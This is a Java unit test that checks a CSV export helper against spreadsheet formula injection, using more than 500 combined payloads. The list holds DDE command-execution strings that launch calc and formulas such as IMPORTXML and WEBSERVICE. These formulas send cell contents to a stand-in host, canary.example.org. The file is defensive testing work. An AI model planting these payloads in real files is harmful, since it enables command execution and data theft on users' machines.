package org.vigie.casework.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.vigie.text.safe.CsvText;

/** Formulas in adverts, exported as CSV and opened again with two readers. */
class FormulaTest {
  /** What stands before a formula: nothing, blanks and ways out of the cell. */
  private static final List<String> BEFORE =
      List.of(
          "", " ", "\t", "\n", "\r", "\u00A0", "\u200B", "\"", "\",\"", "x,", "x;", "x;\"", "x\t",
          "x\n", "x\r\n ", "x\",\"");

  /** After OWASP's page on CSV injection. */
  private static final List<String> FORMULAS =
      List.of(
          "=1+1;y",
          "=1+1",
          "+1+1;y",
          "-1+1;y",
          "@SUM(A1);y",
          "\uFF1D1+1",
          "\uFF0B1+1;y",
          "\uFF0D1+1;y",
          "\uFF20SUM(A1)",
          "=cmd|' /C calc'!A0",
          "=cmd|' /C calc'!A0;y",
          "+cmd|' /C calc'!A0",
          "-cmd|' /C calc'!A0;y",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "|cmd",
          "%0A=1+1",
          "=HYPERLINK(\"canary.example.org\";\"x\")",
          "=HYPERLINK(\"canary.example.org\",\"x\");y",
          "=WEBSERVICE(\"canary.example.org\")",
          "=IMPORTXML(CONCAT(\"canary.example.org\", A1);\"x\")",
          "=IMPORTDATA(\"canary.example.org\");y",
          "=IMAGE(\"canary.example.org\")",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "=INDIRECT(\"A1\");y",
          "=A1&B1",
          "=A1:A9;y",
          "==1+1",
          "=+1+1;y",
          "=-1+1",
          "+=1+1;y",
          "-@SUM(A1)",
          "{=1+1}\n=1+1");

  private static final Pattern FORMULA =
      Pattern.compile("^[\\s\\p{Z}\\p{Cf}\\p{Cc}\"]*+[=+\\-@|%\uFF1D\uFF0B\uFF0D\uFF20]");

  static List<String> payloads() {
    return BEFORE.stream().flatMap(before -> FORMULAS.stream().map(before::concat)).toList();
  }

  private static String exported(List<String> texts) {
    return String.join(
        "", texts.stream().map(text -> CsvText.row(List.of("a-1", text, "m-1"))).toList());
  }

  @Test
  void areAtLeastFiveHundred() {
    assertThat(payloads()).doesNotHaveDuplicates().hasSizeGreaterThanOrEqualTo(500);
    assertThat(payloads().stream().filter(text -> FORMULA.matcher(text).find()))
        .as("formulas if a cell holds them as they are")
        .hasSizeGreaterThan(200);
    assertThat(
            payloads().stream()
                .filter(text ->
                    Stream.of(text.split("[,;\t\r\n]", -1))
                        .anyMatch(piece -> FORMULA.matcher(piece).find())))
        .as("formulas at the start or behind what may end a cell")
        .hasSameSizeAs(payloads());
  }

  @Test
  void areTextToBothReaders() throws Exception {
    String csv = exported(payloads());
    for (List<List<String>> rows : List.of(commonsRows(csv, ','), jacksonRows(csv))) {
      assertThat(rows).hasSameSizeAs(payloads()).allSatisfy(row -> assertThat(row).hasSize(3));
      assertNoFormula(rows);
    }
  }

  @Test
  void areTextAlsoWhereTheSemicolonEndsACell() throws Exception {
    String csv = exported(payloads());
    for (List<List<String>> rows : List.of(commonsRows(csv, ';'), rowsWithoutQuotes(csv, ";"))) {
      assertThat(rows.stream().flatMap(List::stream).count())
          .as("cells that begin within others")
          .isGreaterThan(payloads().size());
      assertNoFormula(rows);
    }
  }

  /** Reads as a program does that knows no quotes, so that any separator ends a cell. */
  static List<List<String>> rowsWithoutQuotes(String csv, String separator) {
    return csv.lines().map(line -> List.of(line.split(separator, -1))).toList();
  }

  static void assertNoFormula(List<List<String>> rows) {
    Stream<String> cells = rows.stream().flatMap(List::stream);
    assertThat(cells.filter(cell -> FORMULA.matcher(cell).find())).isEmpty();
  }

  static List<List<String>> commonsRows(String csv, char separator) throws Exception {
    CSVFormat format =
        CSVFormat.EXCEL
            .builder()
            .setDelimiter(separator)
            .setTrailingData(true)
            .setLenientEof(true)
            .get();
    try (CSVParser parser = CSVParser.parse(new StringReader(csv), format)) {
      return parser.stream().map(CSVRecord::toList).toList();
    }
  }

  static List<List<String>> jacksonRows(String csv) throws Exception {
    CsvMapper mapper = CsvMapper.builder().enable(CsvParser.Feature.WRAP_AS_ARRAY).build();
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<String[]> read =
        mapper.readerFor(String[].class).with(mapper.schema()).readValues(csv)) {
      while (read.hasNext()) {
        rows.add(List.of(read.next()));
      }
    }
    return rows;
  }
}
